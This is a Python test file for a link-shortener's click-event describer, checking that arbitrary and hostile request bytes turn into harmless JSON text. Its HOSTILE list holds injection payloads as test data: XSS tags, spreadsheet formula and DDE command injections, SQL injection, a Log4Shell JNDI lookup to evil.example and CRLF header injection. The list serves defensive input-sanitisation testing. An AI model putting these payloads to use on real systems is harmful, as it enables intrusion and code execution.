"""Whatever strangers send, its description stands in an event's JSON, and is harmless there."""

import asyncio
from collections.abc import Iterator, Mapping, Sequence
from pathlib import Path
from typing import Final

import msgspec
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from clicks.events.describing import Describer, describer
from clicks.events.event import ClickEvent
from clicks.events.places import Places
from clicks.events.utm import UtmTags
from redirect_core import HEAD, PREFETCH, UNTRACKED, SpoolReader, SpoolWriter, Visitor
from shortlink.links import Link, LinkKey
from shortlink.settings import Settings
from tests.store_contract.clicks.samples import NOON_MS, ManualClock

HOSTILE: Final = [
    b"\0",
    bytes(range(256)),
    b"\x1b]0;owned\x07\x1b[2J",
    b"\x80\x9b31m\xc2\x9b31m",  # C1 controls, bare and in UTF-8
    b"<script>alert(1)</script><img src=x onerror=alert(1)>",
    b"x" * 8_192,
    b"\xff\xfe\xfd",
    b"\xed\xa0\x80\xed\xb0\x80",  # surrogates
    b"\xf0\x9f\x92",  # a character cut off
    b'=HYPERLINK("http://evil.example","x")',
    b"@SUM(1+1)*cmd|' /C calc'!A0",
    b"+1-1\t\r\n",
    "\u202egpj.exe\u2066\ufeff".encode(),
    "\u2028\u2029\u0085".encode(),
    b'"}{"v":2,"class":"human',
    b'\\"\\u0000\\',
    b"'; DROP TABLE event; --",
    b"${jndi:ldap://evil.example/a}",
    b"https://evil.example/\r\nSet-Cookie: a=b",
    b"https://[::1",
    b"http://\xff.example/",
    b"https://user:pass@" + b"a." * 250 + b"example/",
    b"de;q=" + b"9" * 60,
]


class NoLinks:
    async def get(self, keys: Sequence[LinkKey]) -> Mapping[LinkKey, Link]:
        return {}


class Desk:
    """A spool, and what comes of a click in it."""

    def __init__(self, folder: Path) -> None:
        self.describer = Describer("node", Places(None, ManualClock()), UtmTags(NoLinks(), ManualClock()))
        self.writer = SpoolWriter(str(folder), 0, segment_bytes=1 << 20)
        self.reader = SpoolReader(str(folder))
        self._seq = 0

    def close(self) -> None:
        self.reader.close()
        self.writer.close()

    def told(self, visitor: Visitor, flags: int = 0) -> ClickEvent:
        """The event of a click by this visitor."""
        self.writer.record(NOON_MS, b"", b"abcdefg", 0, flags, visitor)
        (batch,) = self.reader.read_events({self.writer.epoch: self._seq})
        self._seq = batch.last_seq
        (described,) = asyncio.run(self.describer.describe([batch]))
        ((_, event, _),) = batch.encode(*described[1:])[0]
        return msgspec.json.decode(event, type=ClickEvent)


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Desk]:
    desk = Desk(tmp_path_factory.mktemp("spool"))
    yield desk
    desk.close()


def assert_harmless(event: ClickEvent) -> None:
    for text in msgspec.structs.astuple(event):
        if isinstance(text, str):
            assert not any(ord(character) < 0x20 or 0x7F <= ord(character) <= 0x9F for character in text)
            assert len(text.encode()) <= 3 * 512  # raises for lone surrogates


def test_an_event_says_what_is_known_of_a_click(desk: Desk) -> None:
    firefox = b"Mozilla/5.0 (Android 14; Mobile; rv:132.0) Gecko/132.0 Firefox/132.0"
    event = desk.told(Visitor(bytes([203, 0, 113, 9]), b"https://News.example/a", firefox, b"pt-br,en;q=0.5"))
    assert (event.node, event.code, event.traffic, event.reason) == ("node", "abcdefg", "human", "browser")
    assert (event.browser, event.os, event.device, event.user_agent) == (
        *("Firefox", "Android", "mobile"),
        firefox.decode(),
    )
    assert (event.network, event.country, event.city) == ("203.0.113.0/24", "", "")
    assert (event.referrer, event.referrer_host) == ("https://News.example/a", "news.example")
    assert (event.language, event.utm_source) == ("pt-BR", "")


def test_of_an_untracked_visitor_only_families_are_known(desk: Desk) -> None:
    firefox = b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
    event = desk.told(Visitor.untracked(firefox), UNTRACKED)
    assert (event.browser, event.device, event.traffic) == ("Firefox", "desktop", "human")
    assert (event.user_agent, event.network, event.referrer, event.language, event.visitor) == ("", "", "", "", "0")


@pytest.mark.parametrize("value", HOSTILE, ids=lambda value: repr(value[:24]))
def test_hostile_values_are_harmless_text(desk: Desk, value: bytes) -> None:
    event = desk.told(Visitor(b"", value, value, value))
    assert_harmless(event)
    assert event.v == 1
    assert event.referrer == event.user_agent


def test_html_and_formulas_stay_the_text_they_are(desk: Desk) -> None:
    sent = "=1+1 <b>\u202e\u2028'\"&amp;"
    assert desk.told(Visitor(b"", sent.encode(), sent.encode(), b"")).referrer == sent


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.binary(max_size=600),
    st.one_of(st.binary(max_size=600), st.text(max_size=200).map(str.encode)),
    st.binary(max_size=80),
    st.sampled_from([0, HEAD, PREFETCH, HEAD | PREFETCH]),
)
@example(b"", b"", b"", 0)
def test_any_bytes_become_an_event(desk: Desk, referrer: bytes, user_agent: bytes, language: bytes, flags: int) -> None:
    assert_harmless(desk.told(Visitor(b"", referrer, user_agent, language), flags))


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=64), st.binary(max_size=64))
def test_any_domain_and_code_are_described(domain: bytes, code: bytes) -> None:
    (members,) = asyncio.run(UtmTags(NoLinks(), ManualClock()).describe([(domain, code)]))
    assert set(msgspec.json.decode(b"{%s}" % members).values()) == {""}


def test_the_settings_name_the_file_of_places(desk: Desk, tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    path = tmp_path / "none.mmdb"
    (described,) = asyncio.run(
        describer(Settings(geoip_db=path), "node", NoLinks(), ManualClock()).describe(
            desk.reader.read_events({desk.writer.epoch: 0})
        )
    )
    assert described.node == "node"
    assert str(path) in caplog.text
